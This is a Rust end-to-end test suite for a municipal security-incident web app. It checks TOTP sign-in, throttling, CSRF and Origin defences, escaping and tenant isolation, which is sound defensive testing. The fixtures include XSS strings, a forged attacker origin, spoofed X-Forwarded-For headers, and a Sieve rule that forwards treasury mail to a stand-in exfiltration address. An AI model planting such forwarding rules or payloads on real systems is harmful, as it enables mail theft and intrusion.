//! The web application end to end over real HTTP on loopback, on SQLite and on a real
//! PostgreSQL (`vigie_testkit::Postgres`, i.e. `tests/fixtures/postgres.sh`), with TOTP codes
//! computed by `oathtool` (OATH Toolkit), an implementation written by others.
//!
//! Each scenario is one `async fn(&Env)`; `on_both_backends!` turns it into `sqlite::<name>`
//! and `postgres::<name>`.

use std::collections::BTreeMap;
use std::process::Command;

use vigie_server::{Access, Config, Overrides, ROUTES, Running};
use vigie_store::{NewUser, Role, Store};

struct Env {
    server: Option<Running>,
    /// Where the server's e-mails go.
    smtp: vigie_testkit::SmtpSink,
    store: Store,
    base: String,
    setup_url: String,
    _dir: tempfile::TempDir,
    _pg: Option<vigie_testkit::Postgres>,
    /// The S3 server holding the blobs (PostgreSQL runs are the hosted set-up: PostgreSQL and
    /// S3-compatible storage; SQLite runs keep the local directory).
    s3: Option<vigie_testkit::S3Server>,
}

impl Env {
    async fn stop(mut self) {
        if let Some(server) = self.server.take() {
            server.stop().await.unwrap_or_else(|e| panic!("stop: {e}"));
        }
    }
}

async fn start(
    store: Store,
    dir: tempfile::TempDir,
    pg: Option<vigie_testkit::Postgres>,
    s3: Option<vigie_testkit::S3Server>,
) -> Env {
    let smtp = vigie_testkit::SmtpSink::start().unwrap_or_else(|e| panic!("smtp sink: {e}"));
    let mut config = Config::resolve(
        Overrides {
            listen: Some("127.0.0.1:0".into()),
            data_dir: Some(dir.path().to_path_buf()),
            smtp_url: Some(smtp.url()),
            blobs: s3
                .as_ref()
                .map(|_| format!("s3://{}/communes", vigie_testkit::s3::BUCKET)),
            ..Overrides::default()
        },
        dir.path(),
    )
    .unwrap_or_else(|e| panic!("config: {e}"));
    if let Some(s3) = &s3 {
        config.s3 = vigie_store::S3Options {
            endpoint: Some(s3.endpoint()),
            region: None,
            access_key_id: Some(vigie_testkit::s3::ACCESS_KEY.into()),
            secret_access_key: Some(vigie_testkit::s3::SECRET_KEY.into()),
            allow_http: true,
        };
    }
    let server = vigie_server::start_with_store(config, store.clone())
        .await
        .unwrap_or_else(|e| panic!("start: {e}"));
    let base = server.base_url.clone();
    let setup_url = server.setup_url.clone().unwrap_or_default();
    Env {
        server: Some(server),
        smtp,
        store,
        base,
        setup_url,
        _dir: dir,
        _pg: pg,
        s3,
    }
}

async fn sqlite_env() -> Env {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let store = Store::open_sqlite(&dir.path().join("vigie.db"))
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    start(store, dir, None, None).await
}

async fn postgres_env() -> Env {
    let pg = tokio::task::spawn_blocking(vigie_testkit::Postgres::start)
        .await
        .unwrap_or_else(|e| panic!("{e}"))
        .unwrap_or_else(|e| panic!("{e}"));
    let store = Store::open(pg.url())
        .await
        .unwrap_or_else(|e| panic!("open postgres: {e}\n{}", pg.log()));
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
    let s3 = vigie_testkit::S3Server::start().unwrap_or_else(|e| panic!("s3 server: {e}"));
    start(store, dir, Some(pg), Some(s3)).await
}

// ---------------------------------------------------------------------------------------------
// A minimal browser: cookies by hand (reqwest's jar would not send `Secure` cookies over
// http://127.0.0.1, which browsers do), no redirect following, so each step is visible.

struct Page {
    status: u16,
    headers: reqwest::header::HeaderMap,
    body: String,
}

impl Page {
    fn location(&self) -> &str {
        self.headers
            .get("location")
            .and_then(|v| v.to_str().ok())
            .unwrap_or("")
    }

    fn header(&self, name: &str) -> &str {
        self.headers
            .get(name)
            .and_then(|v| v.to_str().ok())
            .unwrap_or("")
    }

    /// The value of the first `<input name="{name}" value="…">`.
    fn field(&self, name: &str) -> String {
        let marker = format!("name=\"{name}\" value=\"");
        self.body
            .split_once(&marker)
            .and_then(|(_, rest)| rest.split_once('"'))
            .map(|(v, _)| v.replace("&#43;", "+").replace("&#x2b;", "+"))
            .unwrap_or_else(|| panic!("no field {name} in:\n{}", self.body))
    }

    /// True if the page shows `text` (as the template engine escapes it).
    fn shows(&self, text: &str) -> bool {
        let escaped = text
            .replace('&', "&#38;")
            .replace('<', "&#60;")
            .replace('>', "&#62;")
            .replace('"', "&#34;")
            .replace('\'', "&#39;");
        let escaped_named = text
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;")
            .replace('\'', "&#39;");
        self.body.contains(text)
            || self.body.contains(&escaped)
            || self.body.contains(&escaped_named)
    }

    fn between(&self, start: &str, end: &str) -> String {
        self.body
            .split_once(start)
            .and_then(|(_, rest)| rest.split_once(end))
            .map(|(v, _)| v.to_string())
            .unwrap_or_else(|| panic!("no {start} in:\n{}", self.body))
    }
}

struct Browser {
    base: String,
    http: reqwest::Client,
    cookies: BTreeMap<String, String>,
    origin: Option<String>,
}

impl Browser {
    fn new(env: &Env) -> Browser {
        Browser {
            base: env.base.clone(),
            http: reqwest::Client::builder()
                .redirect(reqwest::redirect::Policy::none())
                .build()
                .unwrap_or_else(|e| panic!("{e}")),
            cookies: BTreeMap::new(),
            origin: Some(env.base.clone()),
        }
    }

    fn cookie_header(&self) -> String {
        self.cookies
            .iter()
            .map(|(k, v)| format!("{k}={v}"))
            .collect::<Vec<_>>()
            .join("; ")
    }

    async fn send(&mut self, request: reqwest::RequestBuilder) -> Page {
        let mut request = request.header("cookie", self.cookie_header());
        if let Some(origin) = &self.origin {
            request = request.header("origin", origin);
        }
        let response = request.send().await.unwrap_or_else(|e| panic!("{e}"));
        for value in response.headers().get_all("set-cookie") {
            let text = value.to_str().unwrap_or("");
            let (pair, attributes) = text.split_once(';').unwrap_or((text, ""));
            if let Some((name, value)) = pair.split_once('=') {
                if attributes.contains("Max-Age=0") {
                    self.cookies.remove(name);
                } else {
                    self.cookies.insert(name.to_string(), value.to_string());
                }
            }
        }
        Page {
            status: response.status().as_u16(),
            headers: response.headers().clone(),
            body: response.text().await.unwrap_or_default(),
        }
    }

    async fn get(&mut self, path: &str) -> Page {
        let url = format!("{}{path}", self.base);
        let request = self.http.get(url);
        self.send(request).await
    }

    async fn post(&mut self, path: &str, fields: &[(&str, &str)]) -> Page {
        let url = format!("{}{path}", self.base);
        let request = self.http.post(url).form(fields);
        self.send(request).await
    }

    async fn post_json(&mut self, path: &str, csrf: Option<&str>, body: serde_json::Value) -> Page {
        let url = format!("{}{path}", self.base);
        let mut request = self.http.post(url).json(&body);
        if let Some(token) = csrf {
            request = request.header("x-csrf-token", token);
        }
        self.send(request).await
    }
}

/// `oathtool --totp` for a base32 secret at Unix time `at`.
fn oathtool(secret_base32: &str, at: i64) -> String {
    let out = Command::new("oathtool")
        .args(["--totp", "-b", "--now", &format!("@{at}"), secret_base32])
        .output()
        .unwrap_or_else(|e| {
            panic!("oathtool introuvable ({e}) : installez le paquet oathtool (scripts/test.sh le fait)")
        });
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

fn now() -> i64 {
    chrono::Utc::now().timestamp()
}

const PASSWORD: &str = "girafe-pluie-cartable-jeudi";

/// Setup wizard → TOTP enrolment. Returns the browser (signed in), the TOTP secret and the
/// recovery codes.
async fn set_up(env: &Env) -> (Browser, String, Vec<String>) {
    set_up_as(
        env,
        "Mairie de Saint-Exemple",
        "commune",
        "Secretariat@Mairie-Saint-Exemple.fr",
    )
    .await
}

/// [`set_up`] for an organisation of the given kind (`commune` or `prestataire`), with Claire
/// Martin as its first administrator.
async fn set_up_as(
    env: &Env,
    organisation: &str,
    genre: &str,
    email: &str,
) -> (Browser, String, Vec<String>) {
    let mut b = Browser::new(env);
    let path = env.setup_url.trim_start_matches(&env.base).to_string();
    let form = b.get(&path).await;
    assert_eq!(form.status, 200, "{}", form.body);
    let csrf = form.field("csrf");
    let jeton = form.field("jeton");
    let created = b
        .post(
            "/installation",
            &[
                ("csrf", &csrf),
                ("jeton", &jeton),
                ("organisation", organisation),
                ("genre", genre),
                ("nom", "Claire Martin"),
                ("email", email),
                ("mot_de_passe", PASSWORD),
                ("confirmation", PASSWORD),
            ],
        )
        .await;
    assert_eq!(created.status, 303, "{}", created.body);
    assert_eq!(created.location(), "/connexion/double-facteur");
    // Before enrolment, nothing past sign-in is reachable.
    assert_eq!(b.get("/").await.location(), "/connexion");
    let (secret, codes) = enrol(&mut b).await;
    (b, secret, codes)
}

/// The mandatory TOTP enrolment of a browser whose password was just accepted (a wrong code
/// first). Returns the secret and the recovery codes.
async fn enrol(b: &mut Browser) -> (String, Vec<String>) {
    let enrol = b.get("/connexion/double-facteur").await;
    assert_eq!(enrol.status, 200, "{}", enrol.body);
    assert!(
        enrol.body.contains("src=\"data:image/svg+xml;base64,"),
        "QR code shown"
    );
    let secret = enrol
        .between("data-testid=\"secret-totp\">", "</code>")
        .replace(' ', "");
    let sealed = enrol.field("secret_scelle");
    let csrf = enrol.field("csrf");
    let wrong = b
        .post(
            "/connexion/double-facteur",
            &[
                ("csrf", &csrf),
                ("secret_scelle", &sealed),
                ("code", "000000"),
            ],
        )
        .await;
    assert_eq!(wrong.status, 422);
    assert!(wrong.body.contains("Code incorrect"), "{}", wrong.body);
    let code = oathtool(&secret, now());
    let done = b
        .post(
            "/connexion/double-facteur",
            &[("csrf", &csrf), ("secret_scelle", &sealed), ("code", &code)],
        )
        .await;
    assert_eq!(done.status, 200, "{}", done.body);
    let codes: Vec<String> = done
        .between("data-testid=\"codes-secours\">", "</ul>")
        .split("<code>")
        .skip(1)
        .filter_map(|c| c.split_once("</code>").map(|(v, _)| v.to_string()))
        .collect();
    assert_eq!(codes.len(), 10, "{}", done.body);
    (secret, codes)
}

/// A second organisation with its own administrator, signed in through the API: the
/// browser and its anti-forgery token.
async fn other_org_admin(env: &Env) -> (Browser, String) {
    let other_org = env
        .store
        .create_organisation("Mairie de Villeneuve")
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let hash = vigie_server::auth::password::hash(PASSWORD).unwrap_or_else(|e| panic!("{e}"));
    let other_user = env
        .store
        .create_user(&NewUser {
            email: "mairie@villeneuve.fr".into(),
            display_name: "Paul Durand".into(),
            password_hash: hash,
        })
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    env.store
        .set_membership(&other_org.id, &other_user.id, Role::Administrateur)
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let secret = [9u8; 20];
    env.store
        .set_totp(&other_user.id, &server_key(env).seal("totp", &secret), 0)
        .await
        .unwrap_or_else(|e| panic!("{e}"));
    let base32 = "BEEQSCIJBEEQSCIJBEEQSCIJBEEQSCIJ"; // [9; 20] in base32
    let mut intruder = Browser::new(env);
    let session = intruder
        .post_json(
            "/api/session",
            None,
            serde_json::json!({"email": "mairie@villeneuve.fr", "mot_de_passe": PASSWORD, "code": oathtool(base32, now())}),
        )
        .await;
    assert_eq!(session.status, 200, "{}", session.body);
    let token: serde_json::Value = serde_json::from_str(&session.body).unwrap_or_default();
    let token = token["csrf"].as_str().unwrap_or_default().to_string();
    (intruder, token)
}

/// A form refused (422) with a French message for each of `messages`.
fn assert_field_errors(page: &Page, messages: &[&str]) {
    assert_eq!(page.status, 422, "{}", page.body);
    for message in messages {
        assert!(page.shows(message), "{message}: {}", page.body);
    }
}

/// The (first) organisation of the account with this login.
async fn first_org_of(env: &Env, email: &str) -> vigie_store::OrgId {
    let user = env
        .store
        .user_by_email(email)
        .await
        .unwrap_or_else(|e| panic!("{e}"))
        .unwrap_or_else(|| panic!("no account {email}"));
    env.store
        .memberships(&user.id)
        .await
        .unwrap_or_else(|e| panic!("{e}"))[0]
        .org_id
        .clone()
}

/// The running server's key (from its key file).
fn server_key(env: &Env) -> vigie_server::keys::ServerKey {
    vigie_server::keys::ServerKey::load_or_create(&env._dir.path().join("cle-serveur.key"))
        .unwrap_or_else(|e| panic!("{e}"))
}

// ---------------------------------------------------------------------------------------------
// Scenarios.

async fn setup_and_sign_in(env: &Env) {
    let mut b = Browser::new(env);
    let health = b.get("/healthz").await;
    assert_eq!(health.status, 200);
    assert!(health.body.contains("\"installe\":false"));
    // No token, wrong token: refused, nothing created.
    assert_eq!(b.get("/installation").await.status, 403);
    assert_eq!(b.get("/installation?jeton=faux").await.status, 403);
    // A weak password: field-level message, nothing saved.
    let path = env.setup_url.trim_start_matches(&env.base).to_string();
    let form = b.get(&path).await;
    let weak = b
        .post(
            "/installation",
            &[
                ("csrf", &form.field("csrf")),
                ("jeton", &form.field("jeton")),
                ("organisation", "Mairie de Saint-Exemple"),
                ("nom", "Claire Martin"),
                ("email", "pas-une-adresse"),
                ("mot_de_passe", "Saint-Exemple2024"),
                ("confirmation", "autre"),
            ],
        )
        .await;
    assert_eq!(weak.status, 422);
    for message in [
        "adresse électronique n'est pas valide",
        "Mot de passe trop faible",
        "Les deux mots de passe sont différents",
    ] {
        assert!(weak.shows(message), "missing {message}:\n{}", weak.body);
    }
    assert!(
        !weak.body.contains("Saint-Exemple2024"),
        "the password is never echoed"
    );
    assert!(
        !env.store.is_set_up().await.unwrap_or(true),
        "nothing saved"
    );

    let (mut b, secret, codes) = set_up(env).await;
    let home = b.get("/").await;
    assert_eq!(home.status, 200);
    assert!(home.body.contains("Mairie de Saint-Exemple"));
    // Setup is closed now.
    assert_eq!(b.get(&path).await.location(), "/connexion");

    // Sign out, then sign in with password and a code (the next step's: the enrolment code's
    // step is spent).
    let csrf = home.field("csrf");
    let out = b.post("/deconnexion", &[("csrf", &csrf)]).await;
    assert_eq!(out.location(), "/connexion");
    assert_eq!(b.get("/").await.location(), "/connexion");
    let signin = b.get("/connexion").await;
    let pw = b
        .post(
            "/connexion",
            &[
                ("csrf", &signin.field("csrf")),
                ("email", "secretariat@mairie-saint-exemple.fr"),
                ("mot_de_passe", PASSWORD),
            ],
        )
        .await;
    assert_eq!(pw.location(), "/connexion/code", "{}", pw.body);
    let pending_cookie = b.cookies.get("vigie_session").cloned();
    // Half signed in is not signed in.
    assert_eq!(b.get("/").await.location(), "/connexion");
    let code_page = b.get("/connexion/code").await;
    let csrf = code_page.field("csrf");
    let code = oathtool(&secret, now() + 30);
    let ok = b
        .post("/connexion/code", &[("csrf", &csrf), ("code", &code)])
        .await;
    assert_eq!(ok.location(), "/", "{}", ok.body);
    // Session fixation: the half-signed-in token is worthless now.
    assert_ne!(b.cookies.get("vigie_session"), pending_cookie.as_ref());
    let mut stale = Browser::new(env);
    if let Some(token) = &pending_cookie {
        stale.cookies.insert("vigie_session".into(), token.clone());
    }
    assert_eq!(stale.get("/").await.location(), "/connexion");
    assert_eq!(b.get("/").await.status, 200);

    // The same code again, in another sign-in: refused as replayed.
    let mut other = Browser::new(env);
    let signin = other.get("/connexion").await;
    other
        .post(
            "/connexion",
            &[
                ("csrf", &signin.field("csrf")),
                ("email", "secretariat@mairie-saint-exemple.fr"),
                ("mot_de_passe", PASSWORD),
            ],
        )
        .await;
    let page = other.get("/connexion/code").await;
    let replay = other
        .post(
            "/connexion/code",
            &[("csrf", &page.field("csrf")), ("code", &code)],
        )
        .await;
    assert_eq!(replay.status, 401);
    assert!(replay.shows("Ce code a déjà servi"), "{}", replay.body);
    // A recovery code works once.
    let page = other.get("/connexion/code").await;
    let with_recovery = other
        .post(
            "/connexion/code",
            &[
                ("csrf", &page.field("csrf")),
                ("code", &codes[0].to_uppercase()),
            ],
        )
        .await;
    assert_eq!(with_recovery.location(), "/", "{}", with_recovery.body);
    let account = other.get("/compte").await;
    assert!(
        account.body.contains("data-testid=\"codes-restants\">9<"),
        "{}",
        account.body
    );

    // The security journal shows all of it to the administrator.
    let journal = b.get("/journal-securite").await;
    assert_eq!(journal.status, 200);
    for line in [
        "Double authentification activée",
        "Connexion réussie",
        "code déjà utilisé présenté à nouveau",
        "code de secours ; il en reste 9",
        "Déconnexion",
    ] {
        assert!(journal.shows(line), "missing {line:?}:\n{}", journal.body);
    }

    // Sign out everywhere ends both browsers' sessions.
    let account = b.get("/compte").await;
    b.post(
        "/compte/deconnexion-partout",
        &[("csrf", &account.field("csrf"))],
    )
    .await;
    assert_eq!(b.get("/").await.location(), "/connexion");
    assert_eq!(other.get("/").await.location(), "/connexion");
}

async fn throttling(env: &Env) {
    let (_b, _secret, _codes) = set_up(env).await;
    let mut b = Browser::new(env);
    let page = b.get("/connexion").await;
    let csrf = page.field("csrf");
    let email = "secretariat@mairie-saint-exemple.fr";
    for _ in 0..4 {
        let page = b
            .post(
                "/connexion",
                &[
                    ("csrf", &csrf),
                    ("email", email),
                    ("mot_de_passe", "mauvais"),
                ],
            )
            .await;
        assert_eq!(page.status, 401, "{}", page.body);
        assert!(page.shows("Adresse électronique ou mot de passe incorrect"));
    }
    // Blocked now, even with the right password; French message and Retry-After.
    let blocked = b
        .post(
            "/connexion",
            &[
                ("csrf", &csrf),
                ("email", email),
                ("mot_de_passe", PASSWORD),
            ],
        )
        .await;
    assert_eq!(blocked.status, 429, "{}", blocked.body);
    assert!(
        blocked.body.contains("Trop de tentatives"),
        "{}",
        blocked.body
    );
    assert!(blocked.header("retry-after").parse::<i64>().unwrap_or(0) >= 1);
    // The API answers the same, as JSON.
    let api = b
        .post_json(
            "/api/session",
            None,
            serde_json::json!({"email": email, "mot_de_passe": PASSWORD, "code": "123456"}),
        )
        .await;
    assert_eq!(api.status, 429);
    assert!(
        api.body.contains("\"code\":\"trop_de_tentatives\""),
        "{}",
        api.body
    );
    // An unknown address gets the same answer as a wrong password (no account enumeration).
    let mut c = Browser::new(env);
    let page = c.get("/connexion").await;
    let unknown = c
        .post(
            "/connexion",
            &[
                ("csrf", &page.field("csrf")),
                ("email", "personne@exemple.fr"),
                ("mot_de_passe", "x"),
            ],
        )
        .await;
    assert_eq!(unknown.status, 401);
    assert!(unknown.shows("Adresse électronique ou mot de passe incorrect"));
}

/// Sends the requests all at once and returns their statuses (0: no answer).
async fn statuses_of_simultaneous(requests: Vec<reqwest::RequestBuilder>) -> Vec<u16> {
    let tasks: Vec<_> = requests
        .into_iter()
        .map(|request| {
            tokio::spawn(async move {
                request
                    .send()
                    .await
                    .map(|r| r.status().as_u16())
                    .unwrap_or(0)
            })
        })
        .collect();
    let mut statuses = Vec::new();
    for t in tasks {
        statuses.push(t.await.unwrap_or(0));
    }
    statuses
}

/// Wrong passwords sent all at once: only the free allowance is checked, the rest are refused
/// before any hashing (the attempt is counted first, under a database lock).
async fn concurrent_guesses(env: &Env) {
    let (_b, _secret, _codes) = set_up(env).await;
    let client = reqwest::Client::new();
    let mut requests = Vec::new();
    for i in 0..16 {
        let request = client
            .post(format!("{}/api/session", env.base))
            .header("origin", env.base.clone())
            .json(&serde_json::json!({
                "email": "secretariat@mairie-saint-exemple.fr",
                "mot_de_passe": format!("mauvais-mot-de-passe-{i}"),
                "code": "000000",
            }));
        requests.push(request);
    }
    let statuses = statuses_of_simultaneous(requests).await;
    let checked = statuses.iter().filter(|&&s| s == 401).count();
    let refused = statuses.iter().filter(|&&s| s == 429).count();
    assert_eq!(checked + refused, 16, "{statuses:?}");
    assert!(
        checked <= 4,
        "only the free allowance is checked: {statuses:?}"
    );

    // Sixteen accounts guessed at once from one address, each request claiming another
    // address in X-Forwarded-For: no trusted proxy is configured, so the header is not
    // believed and the per-address allowance (10) still applies.
    let mut requests = Vec::new();
    for i in 0..16 {
        let request = client
            .post(format!("{}/api/session", env.base))
            .header("origin", env.base.clone())
            .header("x-forwarded-for", format!("198.51.100.{}", i + 1))
            .json(&serde_json::json!({
                "email": format!("inconnu-{i}@exemple.fr"),
                "mot_de_passe": "devine",
                "code": "000000",
            }));
        requests.push(request);
    }
    let statuses = statuses_of_simultaneous(requests).await;
    let checked = statuses.iter().filter(|&&s| s == 401).count();
    assert!(
        checked <= 11 && statuses.iter().filter(|&&s| s == 429).count() >= 5,
        "a spoofed X-Forwarded-For does not escape the per-address limit: {statuses:?}"
    );
}

async fn csrf_origin_and_headers(env: &Env) {
    let (mut b, secret, _codes) = set_up(env).await;
    let home = b.get("/").await;
    let csrf = home.field("csrf");
    // Headers on pages.
    let csp = home.header("content-security-policy");
    assert!(
        csp.contains("script-src 'self'") && !csp.contains("unsafe-inline"),
        "{csp}"
    );
    assert!(csp.contains("frame-ancestors 'none'"));
    assert_eq!(home.header("x-frame-options"), "DENY");
    assert_eq!(home.header("x-content-type-options"), "nosniff");
    assert_eq!(home.header("referrer-policy"), "same-origin");
    assert_eq!(home.header("cache-control"), "no-store");
    // Every state-changing route refuses a request without the token, and one from another
    // site even with it.
    for (method, path, _) in ROUTES.iter().filter(|(m, _, _)| *m == "POST") {
        let path = path.replace("{id}", "INC-2026-0001").replace("{step}", "x");
        let url = format!("{}{path}", b.base);
        let no_token = b.send(b.http.post(&url).form(&[("x", "y")])).await;
        if path == "/api/session" {
            continue;
        }
        assert_eq!(
            no_token.status, 403,
            "{method} {path} without token: {}",
            no_token.body
        );
        b.origin = Some("https://attaquant.example".into());
        let foreign = b
            .send(b.http.post(&url).form(&[("csrf", csrf.as_str())]))
            .await;
        b.origin = Some(b.base.clone());
        assert_eq!(foreign.status, 403, "{method} {path} from another site");
    }
    // The session still works (nothing above was accepted).
    assert_eq!(b.get("/").await.status, 200);
    // `Origin: null` (a browser hiding the origin) is this site's only when the browser's
    // Sec-Fetch-Site says so.
    b.origin = Some("null".into());
    let url = format!("{}/incidents/nouveau", b.base);
    let form = [
        ("csrf", csrf.as_str()),
        ("playbook", "faux-support"),
        ("titre", "Fenêtre d'alerte"),
        ("constate_le", "2026-11-02T10:00"),
    ];
    let cross = b
        .send(
            b.http
                .post(&url)
                .header("sec-fetch-site", "cross-site")
                .form(&form),
        )
        .await;
    assert_eq!(cross.status, 403, "{}", cross.body);
    let same = b
        .send(
            b.http
                .post(&url)
                .header("sec-fetch-site", "same-origin")
                .form(&form),
        )
        .await;
    assert_eq!(same.status, 303, "{}", same.body);
    b.origin = Some(b.base.clone());
    // API: sign in by JSON, then X-CSRF-Token is required.
    let mut api = Browser::new(env);
    let session = api
        .post_json(
            "/api/session",
            None,
            serde_json::json!({
                "email": "secretariat@mairie-saint-exemple.fr",
                "mot_de_passe": PASSWORD,
                "code": oathtool(&secret, now() + 30),
            }),
        )
        .await;
    assert_eq!(session.status, 200, "{}", session.body);
    let token: serde_json::Value = serde_json::from_str(&session.body).unwrap_or_default();
    let token = token["csrf"].as_str().unwrap_or_default().to_string();
    let body = serde_json::json!({"playbook": "faux-support", "titre": "Faux support", "constate_le": "2026-11-02T10:00:00+01:00"});
    let refused = api.post_json("/api/incidents", None, body.clone()).await;
    assert_eq!(refused.status, 403);
    assert!(refused.body.contains("jeton_csrf"));
    let created = api.post_json("/api/incidents", Some(&token), body).await;
    assert_eq!(created.status, 201, "{}", created.body);
}

async fn unauthenticated_routes(env: &Env) {
    let mut b = Browser::new(env);
    for (method, path, access) in ROUTES {
        if *access == Access::Public {
            continue;
        }
        let path = path
            .replace("{id}", "INC-2026-0001")
            .replace("{step}", "x")
            .replace("{kind}", "cnil");
        let url = format!("{}{path}", b.base);
        let page = match *method {
            "GET" => b.get(&path).await,
            _ => {
                // With a valid pre-sign-in token, so the refusal is about the session.
                b.get("/connexion").await;
                let csrf = b.cookies.get("vigie_csrf").cloned().unwrap_or_default();
                b.send(b.http.post(&url).form(&[("csrf", csrf.as_str())]))
                    .await
            }
        };
        if path.starts_with("/api/") {
            assert_eq!(page.status, 401, "{method} {path}: {}", page.body);
            assert!(page.body.contains("connexion_requise"));
        } else {
            assert_eq!(page.status, 303, "{method} {path}");
            assert_eq!(page.location(), "/connexion", "{method} {path}");
        }
    }
}

async fn incidents_and_isolation(env: &Env) {
    let (mut b, _secret, _codes) = set_up(env).await;
    let form = b.get("/incidents/nouveau").await;
    assert_eq!(form.status, 200);
    let csrf = form.field("csrf");
    // Bad input: field messages, nothing declared.
    let bad = b
        .post(
            "/incidents/nouveau",
            &[
                ("csrf", &csrf),
                ("playbook", "inconnu"),
                ("titre", " "),
                ("constate_le", "hier"),
            ],
        )
        .await;
    assert_eq!(bad.status, 422);
    assert!(bad.body.contains("Choisissez ce qui se passe"));
    assert!(bad.shows("Indiquez la date et l'heure"), "{}", bad.body);
    let declared = b
        .post(
            "/incidents/nouveau",
            &[
                ("csrf", &csrf),
                ("playbook", "compromission-messagerie"),
                ("titre", "Messages disparus <script>alert(1)</script>"),
                (
                    "description",
                    "Des courriels ont disparu de la boîte de la mairie.",
                ),
                ("constate_le", "2026-11-28T09:15"),
                ("donnees_personnelles", "oui"),
            ],
        )
        .await;
    assert_eq!(declared.status, 303, "{}", declared.body);
    let location = declared.location().to_string();
    let page = b.get(&location).await;
    assert_eq!(page.status, 200);
    assert!(
        page.body.contains("Messages disparus &#60;script&#62;")
            || page.body.contains("Messages disparus &lt;script&gt;"),
        "escaped title"
    );
    assert!(!page.body.contains("<script>alert(1)</script>"));
    assert!(page.body.contains("data-echeance="), "live countdowns");
    assert!(page.body.contains("Notification"), "CNIL deadline shown");

    // Evidence upload (multipart, token in the query string).
    let csrf = page.field("csrf");
    let id = location.trim_start_matches("/incidents/").to_string();
    let part =
        reqwest::multipart::Part::bytes(b"capture d'ecran".to_vec()).file_name("capture écran.png");
    let form = reqwest::multipart::Form::new()
        .part("fichiers", part)
        .text("description", "Capture de la boîte vide");
    let url = format!(
        "{}/incidents/{id}/preuves?csrf={}",
        b.base,
        csrf.replace('+', "%2B")
    );
    let uploaded = b.send(b.http.post(url).multipart(form)).await;
    assert_eq!(uploaded.status, 303, "{}", uploaded.body);
    let page = b.get(&location).await;
    assert!(page.shows("capture écran.png"), "original name kept");
    // SHA-256 of the bytes.
    use sha2::Digest as _;
    let digest: String = sha2::Sha256::digest(b"capture d'ecran")
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect();
    assert!(page.body.contains(&digest), "hash shown");

    // Documents and dossier.
    let pdf = b.get(&format!("/incidents/{id}/documents/cnil")).await;
    assert_eq!(pdf.status, 200);
    assert_eq!(pdf.header("content-type"), "application/pdf");
    let zip = b.get(&format!("/incidents/{id}/dossier")).await;
    assert_eq!(zip.status, 200);
    assert_eq!(zip.header("content-type"), "application/zip");
    // With S3 storage the evidence and the documents are in the bucket, under the prefix, and
    // nothing is kept in the data directory.
    if let Some(s3) = &env.s3 {
        let keys = s3.keys();
        let evidence_key = format!("communes/sha256/{}/{digest}", &digest[..2]);
        assert!(keys.contains(&evidence_key), "{keys:?}");
        assert!(keys.len() >= 2, "evidence and the CNIL document: {keys:?}");
        assert!(
            keys.iter().all(|k| k.starts_with("communes/sha256/")),
            "{keys:?}"
        );
        assert!(
            !env._dir.path().join("evidence/sha256").exists(),
            "no local copy"
        );
    }

    // Another organisation, with its own administrator, sees none of it.
    let (mut intruder, token) = other_org_admin(env).await;
    for path in [
        format!("/incidents/{id}"),
        format!("/incidents/{id}/documents/cnil"),
        format!("/incidents/{id}/dossier"),
        format!("/api/incidents/{id}"),
        "/api/incidents/INC-2026-0001".to_string(),
    ] {
        let page = intruder.get(&path).await;
        assert_eq!(page.status, 404, "{path}: {}", page.body);
        assert!(!page.body.contains("Messages disparus"), "{path}");
    }
    let list = intruder.get("/api/incidents").await;
    assert_eq!(list.status, 200);
    assert!(!list.body.contains("Messages disparus"));
    let step = intruder
        .post_json(
            &format!("/api/incidents/{id}/etapes/isoler"),
            Some(&token),
            serde_json::json!({}),
        )
        .await;
    assert_eq!(step.status, 404, "{}", step.body);
    let journal = intruder.get("/api/journal-securite").await;
    assert!(!journal.body.contains("Claire Martin"), "{}", journal.body);
}

// ---------------------------------------------------------------------------------------------
// Mailboxes: a real Dovecot with a forwarding rule, checked by the server's background worker.

const MAILBOX_LABEL: &str = "Secrétariat de Saint-Exemple <script>x</script>";
const EXFILTRATION: &str = "pirate@exfiltration.example.net";

/// A Dovecot whose mailbox forwards the treasury's mail outside, and holds a bank detail.
async fn compromised_dovecot() -> vigie_testkit::Dovecot {
    tokio::task::spawn_blocking(|| {
        let dovecot = vigie_testkit::Dovecot::start().unwrap_or_else(|e| panic!("{e}"));
        dovecot
            .put_sieve_script(
                dovecot.user(),
                "regles",
                &format!(
                    "require [\"fileinto\"];\r\nif header :contains \"from\" \"tresorerie\" {{\r\n  \
                     redirect \"{EXFILTRATION}\";\r\n}}\r\n"
                ),
                true,
            )
            .unwrap_or_else(|e| panic!("{e}"));
        dovecot
            .append(
                "INBOX",
                b"From: tresorerie@dgfip.example.fr\r\nTo: secretariat@mairie-exemple.fr\r\n\
                  Subject: Coordonnees bancaires\r\nDate: Mon, 2 Mar 2026 09:00:00 +0100\r\n\
                  Message-ID: <rib-1@dgfip.example.fr>\r\n\r\n\
                  Voici le RIB : IBAN FR76 3000 6000 0112 3456 7890 189\r\n",
                &[],
            )
            .unwrap_or_else(|e| panic!("{e}"));
        dovecot
    })
    .await
    .unwrap_or_else(|e| panic!("{e}"))
}

/// Adds the Dovecot mailbox through the form; returns its page path.
async fn add_mailbox(b: &mut Browser, dovecot: &vigie_testkit::Dovecot) -> String {
    let form = b.get("/messagerie/ajouter").await;
    assert_eq!(form.status, 200, "{}", form.body);
    let csrf = form.field("csrf");
    let ca = std::fs::read_to_string(dovecot.ca_cert_path()).unwrap_or_else(|e| panic!("{e}"));
    let added = b
        .post(
            "/messagerie/ajouter",
            &[
                ("csrf", &csrf),
                ("libelle", MAILBOX_LABEL),
                ("identifiant", dovecot.user()),
                ("mot_de_passe", dovecot.password()),
                ("serveur", dovecot.host()),
                ("port", &dovecot.imaps_port().to_string()),
                ("securite", "tls"),
                ("port_sieve", &dovecot.sieve_port().to_string()),
                ("autorite_pem", &ca),
                ("conservation_annees", "2"),
            ],
        )
        .await;
    assert_eq!(added.status, 303, "{}", added.body);
    let location = added.location().to_string();
    assert!(location.starts_with("/messagerie/"), "{location}");
    location
}

